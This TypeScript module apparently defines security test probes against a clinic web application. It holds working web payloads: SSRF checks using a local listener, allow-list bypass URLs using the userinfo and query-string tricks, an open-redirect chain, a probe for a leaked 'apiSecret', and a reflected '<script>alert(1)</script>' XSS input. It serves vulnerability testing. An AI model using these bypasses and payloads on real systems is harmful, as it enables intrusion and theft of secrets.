import { listen } from './listen.ts';
import type { Attacks, Target } from './target.ts';

const NAME = 'results.lab.example';
const REPORTS = '/patients/2/documents/import';

/** Gives an operation what `url` makes of an address of ours. @returns whether the clinic came to it. */
async function fetched(clinic: Target, path: string, url: (bait: string) => string): Promise<boolean> {
  const bait = await listen((path, answer) => {
    answer.writeHead(200, { 'content-type': 'text/plain' }).end(`bait ${path}`);
  });
  try {
    const body = { url: url(bait.url('called')), ...(path === REPORTS ? { kind: 'lab', name: 'report.txt' } : {}) };
    await clinic.ask('POST', path, { as: 'nils.hofmann', body });
    return bait.called.some((path) => path.startsWith('/called'));
  } finally {
    bait.close();
  }
}

/** What goes out of the clinic, and what it brings back. */
export const outside = {
  ssrf: async (clinic) => [await fetched(clinic, '/calendars', (bait) => bait)],
  'loose-allow-list': async (clinic) => [
    await fetched(clinic, REPORTS, (bait) => bait.replace('//', `//${NAME}@`)),
    await fetched(clinic, REPORTS, (bait) => `${bait}?https://${NAME}/`),
  ],
  'follows-redirects': async (clinic) => [
    await fetched(clinic, REPORTS, (bait) => `https://${NAME}/open?link=${encodeURIComponent(bait)}`),
  ],
  'trusts-third-party': async (clinic) => {
    const check = (body: object) => clinic.ask('POST', '/insurance/checks', { as: 'paul.weiss', body });
    const member = await check({ memberNumber: 'NM20418902' });
    const stranger = await check({ memberNumber: 'XX00000000', remark: '<script>alert(1)</script>' });
    return [
      member.text.includes('apiSecret'),
      stranger.headers.get('content-type') === 'text/html' && stranger.text.includes('<script>alert(1)'),
    ];
  },
} satisfies Partial<Attacks>;
